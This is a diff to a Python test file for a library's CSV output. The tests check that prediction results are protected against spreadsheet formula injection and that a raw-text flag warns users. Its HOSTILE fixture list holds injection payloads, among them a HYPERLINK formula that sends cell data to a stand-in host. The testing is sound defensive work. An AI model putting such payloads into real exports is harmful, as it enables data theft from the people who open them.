@@ -5,6 +5,8 @@ prediction run's CSV at the active site."""
 
 from __future__ import annotations
 
+import importlib
+
 import csv
 import types
 
@@ -12,12 +14,12 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from flare_helpers import load_script
+
 from test_predict import xgb_model
 from treeflare.data import load_csv
 from treeflare.data.schema import Feature, Schema
 from treeflare.prediction import predict_csv
-from treeflare.reporting import csv_text, spreadsheet_safe
+from treeflare.files import csv_text, spreadsheet_safe
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-cmd", "@SUM(A1)", "\t=1+1", "\r=1+1"]
 
@@ -93,7 +95,7 @@ def test_predictions_csv_is_safe_by_default_and_raw_on_request(hostile):
 
 def test_script_has_a_raw_text_flag_that_warns(hostile, capsys):
     tmp, _ = hostile
-    script = load_script("scripts/predict.py", "predict_script_inject")
+    script = importlib.import_module("treeflare.tools.predict")
     help_text = " ".join(script.build_parser().format_help().split())
     assert "--raw-text" in help_text and "MAY RUN AS FORMULAS" in help_text
     base = ["--model", str(tmp / "model.json"), "--csv", str(tmp / "new.csv"), "--out"]
@@ -131,7 +133,7 @@ def test_vertical_predictions_csv_is_safe_by_default(tmp_path):
 
 
 def test_vertical_job_takes_raw_text_with_predict_only(tmp_path):
-    job = load_script("jobs/vertical_tree/job.py", "vertical_job_inject")
+    job = importlib.import_module("treeflare.jobs.vertical_tree")
     args = job.parse_args(["--predict", str(tmp_path), "--raw-text", "--workspace", str(tmp_path / "w")])
     assert args.raw_text is True
     with pytest.raises(SystemExit):
